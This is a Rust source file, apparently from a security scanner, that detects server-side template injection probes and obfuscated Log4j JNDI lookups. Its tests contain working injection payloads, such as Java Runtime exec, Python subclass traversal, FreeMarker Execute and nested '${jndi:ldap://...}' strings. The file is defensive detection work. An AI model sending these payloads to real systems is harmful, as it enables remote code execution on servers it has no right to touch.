//! Template expressions with content that reaches for the interpreter, and lookups as of Log4j.

use crate::hits::{Hits, Part};
use crate::words::{any, find};

/// Bytes of one expression that are looked at.
const EXPRESSION_BYTES_MAX: usize = 512;

/// Bytes that a lookup may spell.
const LOOKUP_BYTES_MAX: usize = 200;

/// Lookups within lookups that are read.
const NESTED_MAX: usize = 12;

const DELIMITERS: [(&[u8], &[u8]); 9] = [
    (b"{{", b"}}"),
    (b"{%", b"%}"),
    (b"${", b"}"),
    (b"#{", b"}"),
    (b"*{", b"}"),
    (b"@{", b"}"),
    (b"<%", b"%>"),
    (b"@(", b")"),
    (b"<#", b">"),
];

/// Judges the expressions of a part.
pub fn judge(part: &Part<'_>, hits: &mut Hits) {
    let bytes = part.bytes();
    let mut at = 0;
    // The next closing delimiter of each kind, once known: openings that nothing closes would each search for it.
    let mut closings = [0_usize; DELIMITERS.len()];
    while at + 1 < bytes.len() {
        let Some(kind) = DELIMITERS.iter().position(|(open, _)| bytes[at..].starts_with(open)) else {
            at += 1;
            continue;
        };
        let (open, close) = DELIMITERS[kind];
        // `${{...}}` is `{{...}}` behind a dollar sign.
        if open == b"${" && bytes.get(at + 2) == Some(&b'{') {
            at += 1;
            continue;
        }
        let rest = &bytes[at..bytes.len().min(at + EXPRESSION_BYTES_MAX)];
        if open == b"${"
            && let Some((rule, length)) = lookup(rest)
        {
            hits.add(rule, part.range.start + at..part.range.start + at + length);
            at += length;
            continue;
        }
        let from = at + open.len();
        if closings[kind] < from {
            let length = bytes[from..].windows(close.len()).position(|window| window == close);
            closings[kind] = length.map_or(bytes.len(), |length| from + length);
        }
        if closings[kind] + close.len() > bytes.len() || closings[kind] - at > EXPRESSION_BYTES_MAX {
            // Nothing closes it within reach; another may begin right behind.
            at = from;
            continue;
        }
        let end = closings[kind] + close.len();
        if let Some(rule) = expression(part, open, &bytes[from..closings[kind]]) {
            hits.add(rule, part.range.start + at..part.range.start + end);
        }
        at = end;
    }
}

fn expression(part: &Part<'_>, open: &[u8], inside: &[u8]) -> Option<&'static str> {
    let plain = inside.trim_ascii();
    let plain = plain.strip_prefix(b"=").unwrap_or(plain).trim_ascii();
    let reaching: [&[u8]; 6] = [
        b"constructor.constructor",
        b"t(java.lang.",
        b"?new()",
        b"self.env.",
        b"|filter('system')",
        b"request.application",
    ];
    let reaches = any(plain, &reaching)
        || find(plain, b"system(", 0).is_some() && open != b"${"
        || open != b"${" && open != b"<%" && part.words.any_name("template-object", plain)
        || (open == b"${" || open == b"<%")
            && part.words.any_name("template-object", plain)
            && any(plain, &[b"getruntime", b"forname", b"__", b"child_process", b"popen"])
        || open == b"{{" && find(plain, b".constructor(", 0).is_some()
        || matches!(open, b"#{" | b"<%") && plain.starts_with(b"`");
    if reaches {
        return Some("template.object");
    }
    if is_probe(plain) {
        return Some(if matches!(open, b"{{" | b"<%" | b"#{" | b"*{") {
            "template.probe"
        } else {
            "template.probe-literal"
        });
    }
    let head = plain.split(|byte| matches!(byte, b' ' | b'|' | b'(' | b'[')).next().unwrap_or_default();
    (open == b"{{" && part.words.has("template-config", head)).then_some("template.config")
}

/// `7*7`, `7*'7'`, `7777+1`: arithmetic of literals, which no template needs.
fn is_probe(plain: &[u8]) -> bool {
    let Some(operator) = plain.iter().position(|byte| matches!(byte, b'*' | b'+' | b'-')) else {
        return false;
    };
    let is_literal = |operand: &[u8]| {
        let operand = operand.trim_ascii();
        let operand = operand.strip_prefix(b"'").and_then(|rest| rest.strip_suffix(b"'")).unwrap_or(operand);
        !operand.is_empty() && operand.len() <= 8 && operand.iter().all(u8::is_ascii_digit)
    };
    is_literal(&plain[..operator]) && is_literal(&plain[operator + 1..])
}

/// `${jndi:...}`, plainly or spelled by nested lookups such as `${lower:j}`, `${::-n}`, `${env:X:-d}`.
fn lookup(rest: &[u8]) -> Option<(&'static str, usize)> {
    let mut spelled: Vec<u8> = Vec::with_capacity(LOOKUP_BYTES_MAX);
    // Where in `spelled` each open lookup begins.
    let mut open = Vec::with_capacity(NESTED_MAX + 1);
    let mut nested = 0;
    let mut at = 0;
    while at < rest.len() && spelled.len() < LOOKUP_BYTES_MAX {
        if rest[at..].starts_with(b"${") {
            open.push(spelled.len());
            if open.len() > NESTED_MAX {
                return None;
            }
            at += 2;
            continue;
        }
        if rest[at] == b'}' {
            let start = open.pop()?;
            if open.is_empty() {
                break;
            }
            nested += 1;
            let inside = spelled.split_off(start);
            spelled.extend_from_slice(resolved(&inside));
        } else {
            spelled.push(rest[at].to_ascii_lowercase());
        }
        at += 1;
    }
    if spelled.starts_with(b"jndi:") {
        return Some(("template.lookup", (at + 1).min(rest.len())));
    }
    let is_word = spelled.iter().take_while(|byte| byte.is_ascii_alphabetic()).count();
    (nested >= 3 && is_word >= 3 && spelled.get(is_word) == Some(&b':'))
        .then(|| ("template.lookup-hidden", (at + 1).min(rest.len())))
}

/// What a nested lookup stands for: its default behind `:-`, else what is behind its last colon.
fn resolved(inside: &[u8]) -> &[u8] {
    if let Some(at) = inside.windows(2).position(|pair| pair == b":-") {
        return &inside[at + 2..];
    }
    inside.iter().position(|&byte| byte == b':').map_or(&[], |at| &inside[at + 1..])
}

#[cfg(test)]
mod tests {
    use crate::hits::judged;

    fn rules(text: &str) -> Vec<&'static str> {
        judged(super::judge, text)
    }

    #[test]
    fn expressions_that_attack() {
        for (text, rule) in [
            ("{{7*7}}", "template.probe"),
            ("a {{ 7 * '7' }} b", "template.probe"),
            ("<%= 7*7 %>", "template.probe"),
            ("${7*7}", "template.probe-literal"),
            ("{{''.__class__.__mro__[1].__subclasses__()}}", "template.object"),
            ("{{constructor.constructor('alert(1)')()}}", "template.object"),
            ("${T(java.lang.Runtime).getRuntime().exec('id')}", "template.object"),
            ("<#assign x=\"freemarker.template.utility.Execute\"?new()>${x(\"id\")}", "template.object"),
            ("#{`id`}", "template.object"),
            ("{{$on.constructor('alert(1)')()}}", "template.object"),
            ("${{7*7}}", "template.probe"),
            ("{{config}}", "template.config"),
            ("${jndi:ldap://x/a}", "template.lookup"),
            ("${${lower:j}ndi:${lower:l}dap://x/a}", "template.lookup"),
            ("${${::-j}${::-n}${::-d}${::-i}:rmi://x}", "template.lookup"),
            ("${${env:A:-j}ndi${env:B:-:}ldap://x}", "template.lookup"),
        ] {
            assert_eq!(rules(text), [rule], "{text}");
        }
    }

    #[test]
    fn ordinary_templates() {
        for text in [
            "{{ user.name }} ${name} ${a + b} #{x} <%= title %>",
            "{% for x in y %}",
            "${HOME}/bin ${x:-1}",
            "{{",
            "${${",
        ] {
            assert_eq!(rules(text), [""; 0], "{text}");
        }
    }
}
